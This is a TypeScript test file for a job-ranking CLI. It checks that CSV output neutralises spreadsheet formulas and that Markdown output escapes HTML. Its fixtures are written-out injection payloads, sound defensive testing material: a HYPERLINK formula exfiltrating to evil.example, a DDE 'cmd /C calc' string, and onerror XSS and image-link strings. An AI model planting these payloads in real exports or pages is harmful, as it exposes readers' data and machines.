// Titles and skills come from exports anyone can write: each output format makes them inert
// for whoever reads it (a spreadsheet, a Markdown renderer, a terminal).
import { mkdtemp, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { runInProcess as run } from './run-cli.js';

async function export_(rows: string[][]): Promise<string> {
  const file = path.join(await mkdtemp(path.join(os.tmpdir(), 'curriculum-escaping-')), 'postings.csv');
  const cell = (text: string) => (/[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text);
  await writeFile(file, rows.map((row) => row.map(cell).join(',')).join('\n') + '\n');
  return file;
}

/** 40 dated postings of a career whose title and skills are formulas, fewer later than earlier (negative growth). */
function formulaRows(): string[][] {
  const rows = [['title', 'skills', 'date_posted']];
  for (let i = 0; i < 40; i++) rows.push(['=HYPERLINK("http://evil.example/?"&A1,"Click")', '@SUM(1+1); -2+3', i < 25 ? '2024-01-01' : '2024-12-31']);
  rows.push(['+cmd|\' /C calc\'!A0', '=1+1', '2024-06-01']);
  rows.push(['@SUM(A1:A9)', 'sql', '2024-06-01']);
  return rows;
}

describe('rank-jobs --format csv neutralises formulas', () => {
  it('puts a quote before text cells that start like a formula, and keeps numbers numbers', async () => {
    const file = await export_(formulaRows());
    const result = await run(['rank-jobs', file, '--format', 'csv']);
    expect(result.code).toBe(0);
    const [header, ...rows] = parse(result.stdout) as string[][];
    expect(header).toEqual(['rank', 'title', 'postings', 'share', 'growth', 'median_age_days', 'top_skills']);
    expect(rows.map((row) => [row[1], row[4], row[6]])).toEqual([
      ['\'=hyperlink("http://evil.example/?"&a1,"click")', '-0.4', "'-2+3; @sum(1+1)"],
      ["'+cmd|' /c calc'!a0", '', "'=1+1"],
      ["'@sum(a1:a9)", '', 'sql'],
    ]);
    for (const row of rows) expect(row.slice(1).filter((cell, i) => i !== 3 && /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it('neutralises the skills of --job too', async () => {
    const file = await export_(formulaRows());
    const result = await run(['rank-jobs', file, '--job', '+cmd|\' /C calc\'!A0', '--format', 'csv']);
    expect(result.stdout).toBe("skill,postings,share\n'=1+1,1,1\n");
  });

  it('--csv-raw writes the cells as they are, for programs that read the CSV back', async () => {
    const file = await export_(formulaRows());
    const result = await run(['rank-jobs', file, '--format', 'csv', '--csv-raw']);
    const rows = (parse(result.stdout) as string[][]).slice(1);
    expect(rows.map((row) => row[1])).toEqual(['=hyperlink("http://evil.example/?"&a1,"click")', "+cmd|' /c calc'!a0", '@sum(a1:a9)']);
  });

  it('--csv-raw with another format is a usage error', async () => {
    const file = await export_(formulaRows());
    expect(await run(['rank-jobs', file, '--format', 'json', '--csv-raw'])).toEqual({
      code: 2,
      stdout: '',
      stderr: 'curriculum: The option --csv-raw applies to the csv format, not "json": add --format csv.\n',
    });
  });
});

/** Characters that must never appear in a Markdown cell without a backslash before them. */
function bareActive(line: string): string[] {
  const bare: string[] = [];
  for (let i = 0; i < line.length; i++) {
    if (line[i] === '\\') i++;
    else if ('<>[]!`*_&~$:@#'.includes(line[i]!)) bare.push(line[i]!);
  }
  return bare;
}

describe('rank-jobs --format md escapes Markdown and HTML', () => {
  const hostile = [
    '<img src=x onerror=alert(1)>',
    '![x](http://evil.example/t.png) analyst',
    'a [click](http://evil.example) b',
    'see <http://evil.example> now',
    'a **bold** _and_ `code` title',
    'pipe | in title',
    '# heading',
    '&lt;script&gt; dev',
  ];

  it('shows every title and skill as plain text, one cell each', async () => {
    const file = await export_([['title', 'skills'], ...hostile.map((title) => [title, '<b>sql</b>; a|b'])]);
    const result = await run(['rank-jobs', file, '--format', 'md']);
    expect(result.code).toBe(0);
    const rows = result.stdout.trimEnd().split('\n').slice(2);
    expect(rows).toHaveLength(hostile.length);
    for (const row of rows) {
      // Five cells (rank, title, postings, share, top_skills) between six unescaped pipes.
      const cells = row.split(/(?<!\\)\|/).slice(1, -1);
      expect(cells).toHaveLength(5);
      expect(cells.flatMap(bareActive)).toEqual([]);
    }
    expect(rows.find((row) => row.includes('img'))).toMatch(/^\| \d \| \\<img src=x onerror=alert\(1\)\\> \| 1 \| 12\.5% \| \\<b\\>sql\\<\/b\\>; a\\\|b \|$/);
    expect(rows.find((row) => row.includes('heading'))).toContain('| \\# heading |');
    expect(rows.find((row) => row.includes('script'))).toContain('| \\&lt;script\\&gt; dev |');
  });

  it('escapes the title in the sentence above a career\'s skills', async () => {
    const file = await export_([['title', 'skills'], ['<img src=x onerror=alert(1)>', '![x](http://evil.example/t.png)']]);
    const result = await run(['rank-jobs', file, '--job', '<img src=x onerror=alert(1)>', '--format', 'md']);
    expect(result.stdout).toBe(
      '"\\<img src=x onerror=alert(1)\\>": 1 postings (rank 1, 100.0% of 1 postings).\n\n' +
        '| skill | postings | share |\n| --- | ---: | ---: |\n| \\!\\[x\\](http\\://evil.example/t.png) | 1 | 100.0% |\n',
    );
  });
});
